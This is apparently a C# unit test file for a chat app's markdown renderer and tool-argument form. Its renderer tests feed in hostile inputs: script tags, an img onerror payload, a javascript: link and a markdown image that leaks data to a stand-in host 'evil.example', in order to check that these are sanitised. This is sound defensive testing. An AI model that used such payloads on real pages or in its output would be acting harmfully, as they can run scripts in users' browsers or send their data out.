using System.Text.Json;
using Gatehouse.Chat.Components.Chat;
using Gatehouse.Chat.Components.Tools;

namespace Gatehouse.Chat.Tests;

/// <summary>The pieces of the page that decide what is safe to render and what a tool receives.</summary>
public sealed class ComponentTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>", "&lt;script&gt;")]
    [InlineData("<img src=x onerror=alert(1)>", "&lt;img")]
    [InlineData("[click](javascript:alert(1))", "<a href=\"\">click</a>")]
    [InlineData("![chart](https://evil.example/leak?data=secret)", "<a href=\"https://evil.example/leak?data=secret\">chart</a>")]
    [InlineData("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>")]
    public void Markdown_ModelText_RenderedWithoutHtmlScriptsOrImages(string markdown, string expected)
    {
        var html = Markdown.Render(markdown);

        Assert.Contains(expected, html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void SchemaFields_EveryKind_FormFieldsAndTypedArguments()
    {
        using var schema = JsonDocument.Parse("""
            {"type":"object","required":["sql"],"properties":{
              "sql":{"type":"string","description":"A SELECT"},
              "limit":{"type":"integer","default":10},
              "ratio":{"type":["number","null"]},
              "verbose":{"type":"boolean"},
              "format":{"type":"string","enum":["json","csv"]},
              "filter":{"type":"object"}}}
            """);
        var form = SchemaFields.From(schema.RootElement);

        Assert.Equal([FieldKind.Text, FieldKind.Integer, FieldKind.Number, FieldKind.Boolean, FieldKind.Choice, FieldKind.Json], form.Fields.Select(f => f.Kind));
        Assert.True(form.Fields[0].Required);
        Assert.Equal("10", form.Fields[1].Value);
        Assert.Equal(["json", "csv"], form.Fields[4].Choices);

        Assert.Equal("sql is required.", form.Arguments().Error);
        form.Fields[0].Value = "SELECT 1";
        form.Fields[2].Value = "0.5";
        form.Fields[3].Checked = true;
        form.Fields[4].Value = "csv";
        form.Fields[5].Value = """{"year": 2024}""";
        var (arguments, error) = form.Arguments();

        Assert.Null(error);
        Assert.Equal("SELECT 1", arguments!["sql"]);
        Assert.Equal(10L, arguments["limit"]);
        Assert.Equal(0.5, arguments["ratio"]);
        Assert.Equal(true, arguments["verbose"]);
        Assert.Equal("csv", arguments["format"]);
        Assert.Equal(2024, ((JsonElement)arguments["filter"]!).GetProperty("year").GetInt32());
    }

    [Fact]
    public void SchemaFields_BadNumberOrJson_NamesTheField()
    {
        using var schema = JsonDocument.Parse("""{"properties":{"n":{"type":"integer"},"o":{"type":"array"}}}""");
        var form = SchemaFields.From(schema.RootElement);

        form.Fields[0].Value = "1.5";
        Assert.Equal("n must be a whole number.", form.Arguments().Error);
        form.Fields[0].Value = "";
        form.Fields[1].Value = "[1,";
        Assert.StartsWith("o is not valid JSON", form.Arguments().Error, StringComparison.Ordinal);
    }
}
